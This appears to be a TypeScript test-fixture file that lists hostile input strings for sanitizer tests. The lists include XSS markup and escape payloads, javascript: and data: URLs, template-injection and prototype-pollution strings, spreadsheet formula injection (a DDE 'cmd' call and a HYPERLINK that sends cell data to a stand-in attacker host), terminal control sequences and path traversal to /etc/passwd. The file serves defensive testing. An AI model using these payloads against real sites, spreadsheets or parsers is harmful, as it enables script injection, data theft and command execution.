/**
 * Texts that attack whatever takes text for something else: markup, an address, a template, a formula, a property's
 * name, a path, a control sequence. Wherever one runs it sets `__pwned`, opens a dialog, or asks a host that does not
 * exist, so that a test can see it.
 */
const RUN = 'window.__pwned=1';
const HOST = 'attacker.invalid';

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt src=//${HOST}/x.js></sCrIpT>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=https://${HOST}/pixel.png>`,
  `<img src="x:x" onerror="alert(1)">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x">`,
  `<math><mtext></table><mglyph><style><img src onerror=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>">`,
  `<object data=https://${HOST}/></object>`,
  `<embed src=https://${HOST}/>`,
  `<link rel=stylesheet href=https://${HOST}/x.css>`,
  `<link rel=prefetch href=https://${HOST}/>`,
  `<base href=https://${HOST}/>`,
  `<meta http-equiv=refresh content="0;url=https://${HOST}/">`,
  `<form action=https://${HOST}/><button autofocus onfocus=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<body onload=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `<x contenteditable onblur=${RUN} tabindex=1 id=x>`,
  `<style>*{display:none!important}</style>`,
  `<style>@import url(https://${HOST}/x.css)</style>`,
  `<div style="position:fixed;inset:0;background:url(https://${HOST}/)">`,
];

const ESCAPES = [
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</option></select><img src=x onerror=${RUN}>`,
  `</noscript><img src=x onerror=${RUN}>`,
  `--><img src=x onerror=${RUN}>`,
  `]]><script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `' autofocus onfocus='${RUN}`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `%3Cimg%20src=x%20onerror=${RUN}%3E`,
  `<img src=x:x\0 onerror=${RUN}>`,
  `＜img src=x onerror=${RUN}＞`,
  `\\";${RUN};//`,
  `';${RUN};'`,
  `</script><script>${RUN}</script>`,
  `\u2028${RUN}\u2029`,
];

/** Addresses that a link must never have. */
export const ATTACKING_ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `data:text/html,<script>opener.__pwned=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `blob:https://${HOST}/1`,
  `file:///etc/passwd`,
  `//${HOST}/`,
  `ftp://${HOST}/`,
  `https:javascript:${RUN}`,
  `https://`,
  `https://${HOST}/ onclick=${RUN}`,
  `https://${HOST}/\nx`,
  `https:\\\\${HOST}`,
];

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `{@html '<img src=x onerror=${RUN}>'}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `{token}`,
  `["get","name"]`,
  `%s %d %n {0} $& $1 $\``,
];

/** Cells that a spreadsheet would compute. */
export const FORMULAS: readonly string[] = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("https://${HOST}/?"&A1,"here")`,
  `=IMPORTXML("https://${HOST}/","//a")`,
  `+1+1`,
  `-1+1`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `\n=1+1`,
  ` =1+1`,
  `\0=1+1`,
  `＝1+1`,
  `x;=1+1`,
  `x\t=1+1`,
  `x\r\n=1+1`,
  `a";=1+1;"`,
  `"=1+1"`,
];

/** Names by which a prototype could be reached or a method hidden. */
export const PROPERTY_NAMES: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'constructor.prototype',
  '__proto__[polluted]',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'toJSON',
  'then',
  'length',
];

const CONTROLS = [
  `a\0b`,
  `\u202egpj.exe`,
  `\u2066\u202e<script>\u2069`,
  `\ufeffbom`,
  `\u001b]0;owned\u0007\u001b[2J`,
  `\u009b31m`,
  `\ud800 lone surrogate`,
  `a${'\u0301'.repeat(500)}`,
  `../../../../etc/passwd`,
  `..\\..\\con.txt`,
  `x`.repeat(4000),
  `\u200b\u200b\u200b`,
];

export const ATTACKS: readonly string[] = [
  ...ELEMENTS,
  ...ESCAPES,
  ...ATTACKING_ADDRESSES,
  ...TEMPLATES,
  ...FORMULAS,
  ...PROPERTY_NAMES,
  ...CONTROLS,
];

/** Without halves of characters, which cannot be in an address. */
export function wellFormed(text: string): string {
  return text.replace(/\p{Cs}/gu, '\ufffd');
}
